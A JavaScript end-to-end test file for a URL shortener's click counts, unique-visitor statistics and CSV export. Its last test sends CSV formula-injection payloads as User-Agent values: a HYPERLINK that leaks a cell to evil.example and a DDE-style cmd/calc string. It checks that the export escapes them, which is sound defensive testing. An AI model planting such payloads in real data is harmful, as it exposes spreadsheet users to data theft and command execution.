// Counts people can trust (issue #12): click limits spent by people only (links.test.mjs has the redirect
// side), clicks vs human_clicks on the link object, exact unique visitors in the stats totals for every
// interval, and a CSV export that a spreadsheet cannot run. Runs in both modes (SHORTENER_E2E_DISTRIBUTED=1).

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';

import { AS_BROWSER, BROWSER_UA, api, clicksOf, createLink, follow, startServer, waitFor } from './support.mjs';

let server;
before(async () => {
  // Visitors are told apart by address: X-Forwarded-For from the loopback test client is believed.
  server = await startServer({ env: { SHORTENER_TRUSTED_PROXIES: '127.0.0.1/32' } });
});
after(async () => {
  await server?.stop();
});

const person = (ip, extra = {}) => ({ headers: { 'user-agent': BROWSER_UA, 'x-forwarded-for': ip, ...extra } });
const SLACKBOT = 'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)';
const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';

describe('counts people can trust', () => {
  test('the link object gives clicks (all) and human_clicks (no bots), in one link and in the list', async () => {
    const { body: link } = await createLink(server.base, { url: 'https://example.com/counted', max_clicks: 10 });
    assert.equal(link.human_clicks, 0);
    for (const ip of ['198.51.100.1', '198.51.100.2', '198.51.100.3']) {
      assert.equal((await follow(server.base, link.slug, person(ip))).status, 302);
    }
    assert.equal((await follow(server.base, link.slug, { method: 'HEAD', ...AS_BROWSER })).status, 302);
    assert.equal((await follow(server.base, link.slug, { headers: { 'user-agent': SLACKBOT } })).status, 302);
    assert.equal((await follow(server.base, link.slug, { headers: { 'user-agent': GOOGLEBOT } })).status, 302);
    assert.equal((await follow(server.base, link.slug)).status, 302); // node's fetch
    await waitFor(async () => (await clicksOf(server.base, link.slug)) === 7, 10_000, 'seven clicks stored');
    const one = (await api(server.base, `/api/v1/links/${link.slug}`)).body;
    assert.equal(one.clicks, 7);
    assert.equal(one.human_clicks, 3);
    const listed = (await api(server.base, `/api/v1/links?q=${link.slug}`)).body.items.find((l) => l.slug === link.slug);
    assert.equal(listed.clicks, 7);
    assert.equal(listed.human_clicks, 3);
    // The stats agree with the link object.
    const stats = (await api(server.base, `/api/v1/links/${link.slug}/stats?bots=include`)).body;
    assert.equal(stats.totals.clicks, 7);
    assert.equal(stats.totals.human_clicks, 3);
  });

  test('totals.unique_visitors is the distinct visitors of the range for every interval, never a false 0', async () => {
    const { body: link } = await createLink(server.base, { url: 'https://example.com/visitors' });
    const visits = { '203.0.113.1': 3, '203.0.113.2': 2, '203.0.113.3': 1 };
    for (const [ip, n] of Object.entries(visits)) {
      for (let i = 0; i < n; i++) await follow(server.base, link.slug, person(ip));
    }
    await follow(server.base, link.slug, { headers: { 'user-agent': GOOGLEBOT, 'x-forwarded-for': '203.0.113.9' } });
    await waitFor(async () => (await clicksOf(server.base, link.slug)) === 7, 10_000, 'seven clicks stored');
    const hourAgo = new Date(Date.now() - 3600_000).toISOString();
    const soon = new Date(Date.now() + 60_000).toISOString();
    const views = [
      '', 'interval=hour', 'interval=day', 'interval=week', 'interval=month', 'interval=hour&tz=Asia/Kolkata',
      'interval=day&tz=America/New_York', `interval=minute&from=${hourAgo}&to=${soon}`,
    ];
    for (const view of views) {
      for (const [bots, want] of [['exclude', 3], ['include', 4]]) {
        const r = await api(server.base, `/api/v1/links/${link.slug}/stats?${view}&bots=${bots}`);
        assert.equal(r.status, 200, r.text);
        assert.equal(r.body.totals.unique_visitors, want, `${view} bots=${bots}`);
        const subDay = r.body.interval === 'hour' || r.body.interval === 'minute';
        for (const p of r.body.timeseries) {
          if (subDay) assert.equal(p.unique_visitors, null, `${view}: a bucket that cannot tell says null`);
          else assert.equal(typeof p.unique_visitors, 'number', view);
        }
        if (!subDay) assert.ok(r.body.timeseries.reduce((n, p) => n + p.unique_visitors, 0) >= want, view);
      }
    }
  });

  test('the CSV export neutralises formulas a visitor put in the User-Agent', async () => {
    const { body: link } = await createLink(server.base, { url: 'https://example.com/csv' });
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
    await follow(server.base, link.slug, { headers: { 'user-agent': formula } });
    await follow(server.base, link.slug, { headers: { 'user-agent': '@SUM(1+1)*cmd|" /C calc"!A0' } });
    await follow(server.base, link.slug, { headers: { 'user-agent': '-2+3' } });
    await follow(server.base, link.slug, { headers: { 'user-agent': BROWSER_UA } });
    await waitFor(async () => (await clicksOf(server.base, link.slug)) === 4, 10_000, 'four clicks stored');
    const res = await fetch(`${server.base}/api/v1/links/${link.slug}/clicks?format=csv`);
    assert.equal(res.status, 200);
    const text = await res.text();
    assert.ok(text.includes(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")"`), text);
    assert.ok(text.includes(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`), text);
    assert.ok(text.includes(`"'-2+3"`), text);
    assert.ok(text.includes(`,${BROWSER_UA},`) || text.includes(`"${BROWSER_UA}"`), 'ordinary text is untouched');
    // No cell of any row starts with a formula character.
    for (const line of text.trim().split('\r\n').slice(1)) {
      assert.doesNotMatch(line, /(^|,)[=+@\t\r-]/, line);
    }
  });
});
